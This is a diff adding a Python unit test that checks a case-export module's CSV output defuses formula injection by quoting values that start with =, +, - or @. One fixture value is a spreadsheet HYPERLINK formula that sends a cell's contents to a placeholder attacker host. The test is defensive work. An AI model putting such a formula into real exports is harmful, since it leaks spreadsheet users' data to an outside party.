@@ -370,3 +370,30 @@ def test_the_document_lists_every_registered_key() -> None:
     table = document[document.index(BEGIN) : document.index(END)]
     missing = [key for key in case_export.fields() if f"`{key}`" not in table]
     assert not missing, f"run `manage.py export_fields --write`: missing {missing}"
+
+
+def test_csv_neutralises_values_and_targets_that_would_run_as_formulas() -> None:
+    """CSV injection: a value (or a list item, or a target) starting with =, +, -, @ is kept as
+    text in the file (a leading quote), never run as a formula by the spreadsheet program."""
+    result = exports.CaseExport(
+        mapping=ExportMapping(code="x", version=1),
+        case_number="C-1",
+        exported_at="2026-01-01T00:00:00",
+        fields={
+            "=name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+            "phone": "+221771234567",
+            "note": "-2+3",
+            "who": "@SUM(1)",
+            "list": ["ok", "=1+1"],
+            "plain": "Aminata",
+        },
+    )
+    rows = list(csv.reader(io.StringIO(result.as_csv().decode("utf-8-sig"))))
+    assert rows[0][0] == "'=name"
+    values = dict(zip(rows[0], rows[1], strict=True))
+    assert values["'=name"].startswith("'=HYPERLINK")
+    assert values["phone"] == "'+221771234567"
+    assert values["note"] == "'-2+3"
+    assert values["who"] == "'@SUM(1)"
+    assert values["list"] == "ok; '=1+1"
+    assert values["plain"] == "Aminata"
